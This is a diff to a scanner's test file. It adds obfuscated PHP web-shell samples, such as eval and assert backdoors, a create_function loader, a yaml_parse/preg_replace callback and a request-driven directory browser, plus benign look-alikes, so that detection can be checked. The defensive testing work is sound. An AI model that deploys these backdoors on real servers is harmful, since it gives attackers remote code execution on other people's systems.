@@ -27,6 +27,13 @@ const MALICIOUS: [string, string, string][] = [
   ['the request\'s C source written to a file, compiled and run through a command wrapper', '/var/www/html/i.php', `<?php\nfunction sh($c) { ob_start(); system($c . ' 2>&1'); return ob_get_clean(); }\n$src = $_REQUEST['src'];\n$n = md5(rand());\nfile_put_contents($n . '.c', $src);\necho sh('gcc ' . $n . '.c -o ' . $n . '.bin');\necho sh('./' . $n . '.bin');\n`],
   ['the request\'s Java wrapped in a class of its own, written out and compiled', '/var/www/html/j.php', `<?php\nfunction sh($c) { return shell_exec($c); }\n$gp = array_merge($_POST, $_GET);\n$code = $gp['code'];\n$k = 'K' . substr(md5(time()), 0, 8);\n$code = "class " . $k . " { " . $code . " }";\nif (file_put_contents($k . '.java', $code) !== false) { echo sh('javac ' . $k . '.java'); echo sh('java ' . $k); }\n`],
   ['a command built from a value of the whole $_SERVER picked by position', '/var/www/html/k.php', `<?php\n$v = array_values($_SERVER);\n$r = system('' . $v[6]);\n`],
+  ['a name built by str_replace from a name\'s own first assignment joined to itself, padded with junk', '/var/www/html/l.php', `<?php\n$f = $f . substr("zzstr_rzz", 2, 5);\n$junk1 = trim("q9x");\n$f = $f . substr("eplaceqq", 0, 6);\n$g = $g . $f("Q", "", "creQatQe_fQunctQion");\n$b = $f("Z", "", "ZQGZV2YWwZoJF9QT1NUWyJ4Il0pOw==");\n$run = $g("", base64_decode($b));\n$run();\n`],
+  ['eval of code made by str_replace from a literal holding an escaped dollar sign', '/var/www/html/m.php', `<?php\n$a = "XXYY(\\$ZZPOST['k']);";\n$b = str_replace("XX", "ev", $a);\n$a = str_replace("YY", "al", $b);\n$b = str_replace("ZZ", "_", $a);\nif ($a !== $b) eval($b);\n`],
+  ['eval of the file\'s own substitution decoder, whose base64 decoder\'s name is joined from two pieces', '/var/www/html/n.php', `<?php\nfunction unmap($s, $m) { $o = ''; for ($i = 0; $i < strlen($s); $i++) $o .= isset($m[$s[$i]]) ? $m[$s[$i]] : $s[$i]; $d = "base" . "64_decode"; return $d($o); }\n$blob = '${b64(Buffer.from(Array.from({ length: 900 }, (_, i) => (i * 73 + 41) % 251)))}';\n$map = array('A' => 'B', 'B' => 'A');\neval/*x*/(unmap($blob, $map));\n`],
+  ['yaml_parse with a tag callback of preg_replace, the tag from the request', '/var/www/html/o.php', `<?php\n$t = urlencode($_REQUEST['t']);\n$doc = "x: !{$t} \\"|.+|e\\"";\nyaml_parse($doc, 0, $n, array("!{$_REQUEST['t']}" => 'preg_replace'));\n`],
+  ['a session save handler whose read handler is assert, the session id from the request', '/var/www/html/p.php', `<?php\n$h = chr(97) . chr(115) . chr(115) . chr(101) . chr(114) . chr(116);\nfunction o($p, $n) { return true; } function c() { return true; } function w($i, $d) { return true; } function d($i) { return true; } function g($l) { return true; }\nsession_id($_REQUEST['sid']);\nsession_set_save_handler('o', 'c', $h, 'w', 'd', 'g');\n@session_start();\n`],
+  ['a call of a variable named by underscores, its name made by ~ of bytes picked out of strings', '/var/www/html/q.php', `<?php\n$__ = 2; $_ = 1;\n$____ = '';\n$___ = "\\x9e\\x8c"; $____ .= ~($___{$__ - 2}); $____ .= ~($___{$_});\n$_____ = '_'; $___ = "\\xaf\\xb0"; $_____ .= ~($___{0});\n$_ = $$_____;\n$____($_[_]);\n`],
+  ['a directory browser finding drives by letter and listing the folder the request names', '/var/www/html/r.php', `<?php\nfunction drives() { foreach (range('c', 'z') as $l) if (is_dir($l . ':')) echo "<a href='?d=$l:'>$l:</a> "; }\ndrives();\n$d = isset($_GET['d']) ? $_GET['d'] : getcwd();\n$h = opendir($d);\nwhile (($f = readdir($h)) !== false) echo htmlspecialchars($f), '<br>';\n`],
 ];
 
 const LOOKALIKES: [string, string, string][] = [
@@ -37,6 +44,11 @@ const LOOKALIKES: [string, string, string][] = [
   ['a command wrapper given a fixed command and an escaped request value', '/var/www/html/ping.php', `<?php\nfunction sh($c) { exec($c, $lines); return implode("\\n", $lines); }\necho sh('ping -c 1 ' . escapeshellarg($_GET['host']));\n`],
   ['a page printing every server variable', '/var/www/html/info.php', `<?php\nforeach (array_values($_SERVER) as $i => $v) echo htmlspecialchars($i . ': ' . $v), "<br>";\n`],
   ['a value made of the request\'s own, printed escaped', '/var/www/html/greet.php', `<?php\n$n = $_GET['n'];\n$n = 'Hello, ' . $n . '!';\necho htmlspecialchars($n);\n`],
+  ['yaml_parse with tag callbacks of the application\'s own', '/var/www/html/conf.php', `<?php\n$cfg = yaml_parse(file_get_contents('app.yml'), 0, $n, array('!date' => 'strtotime', '!env' => 'getenv'));\n`],
+  ['a session save handler object of the application', '/var/www/html/sess.php', `<?php\nclass DbSession implements SessionHandlerInterface { public function open($p, $n): bool { return true; } public function close(): bool { return true; } public function read($id): string|false { return ''; } public function write($id, $d): bool { return true; } public function destroy($id): bool { return true; } public function gc($l): int|false { return 0; } }\nsession_set_save_handler(new DbSession(), true);\nsession_id($_COOKIE['sid'] ?? session_create_id());\nsession_start();\n`],
+  ['a translation helper named by underscores', '/var/www/html/i18n.php', `<?php\nfunction __($s) { return $GLOBALS['_L'][$s] ?? $s; }\n$__ = '__';\necho $__('Hello');\n$_ = $_GET;\necho htmlspecialchars(__($_['msg'] ?? 'Welcome'));\n`],
+  ['a disk report by drive letter, with no folder listed', '/var/www/html/disks.php', `<?php\n$unit = $_GET['unit'] === 'mb' ? 1048576 : 1073741824;\nforeach (range('c', 'z') as $l) if (is_dir($l . ':')) printf('%s: %.1f free<br>', $l, disk_free_space($l . ':') / $unit);\n`],
+  ['a string with an escaped dollar sign and a str_replace, printed', '/var/www/html/price.php', `<?php\n$t = "Price: \\$AMOUNT";\n$t = str_replace('AMOUNT', number_format((float) $_GET['p'], 2), $t);\necho htmlspecialchars($t);\n`],
 ];
 
 describe('scan: the techniques of held-out sets H8 to H11 (session 35)', () => {
@@ -46,7 +58,7 @@ describe('scan: the techniques of held-out sets H8 to H11 (session 35)', () => {
       assert.equal(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 10));
+  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 17));
 
   for (const [name, path, src] of LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
@@ -54,5 +66,5 @@ describe('scan: the techniques of held-out sets H8 to H11 (session 35)', () => {
       assert.notEqual(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 7));
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 12));
 });
